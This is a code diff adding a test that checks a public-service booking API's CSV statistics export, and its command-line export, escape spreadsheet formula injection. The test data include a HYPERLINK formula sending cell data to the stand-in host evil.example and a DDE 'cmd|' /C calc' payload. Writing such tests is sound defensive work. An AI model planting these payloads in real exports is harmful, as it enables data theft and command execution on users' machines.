@@ -162,3 +162,40 @@ def test_statistics_need_a_valid_range(client):
                   "?from=2026-01-01&to=2027-06-01", "?from=x&to=y"):
         status, body = call(client, "GET", f"{M}/stats{query}", token=token)
         assert (status, body["code"]) == (422, "validation_error"), query
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(client, capsys, tmp_path):
+    """OWASP's rule: a cell beginning with = + - @ tab or CR gets a leading quote, in the
+    API's CSV and in the command line's export (the names are typed by mall admins)."""
+    import csv
+    import io
+
+    from chalicelib import cli
+
+    token = admin_token(client)
+    hostile = {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")": "=",
+               "@SUM(1+1)*cmd|' /C calc'!A0": "@", "+62 layanan": "+", "-2+3": "-"}
+    assert call(client, "PUT", f"{M}/agencies/bpjs",
+                {"name": "@SUM(9*9)", "letter": "E"}, token=token)[0] == 200
+    for n, name in enumerate(hostile):
+        status, body = call(client, "PUT", f"{M}/services/bad-{n}", {
+            "agency_id": "bpjs", "name": name, "slot_minutes": 30, "capacity": 2,
+            "walkin_quota": 0}, token=token)
+        assert status == 200, body
+        booked(client, service_id=f"bad-{n}", date="2026-12-08", start="09:00")
+    answer = client.http.get(f"{M}/stats?from=2026-12-08&to=2026-12-08&format=csv",
+                             headers={"Authorization": f"Bearer {token}"})
+    rows = list(csv.DictReader(io.StringIO(answer.body.decode())))
+    bad = {r["service_name"] for r in rows if r["service_id"].startswith("bad-")}
+    assert bad == {"'" + name for name in hostile}
+    assert {r["agency_name"] for r in rows if r["service_id"].startswith("bad-")} \
+        == {"'@SUM(9*9)"}
+    assert all(r["bookings"] == "1" for r in rows if r["service_id"].startswith("bad-"))
+    # the command line writes the same text
+    target = tmp_path / "stats.csv"
+    assert cli.main(["export-stats", "kota-bogor", "2026-12-08", "2026-12-08", "-o",
+                     str(target)]) == 0
+    capsys.readouterr()
+    rows = list(csv.DictReader(io.StringIO(target.read_text())))
+    assert {r["service_name"] for r in rows if r["service_id"].startswith("bad-")} \
+        == {"'" + name for name in hostile}
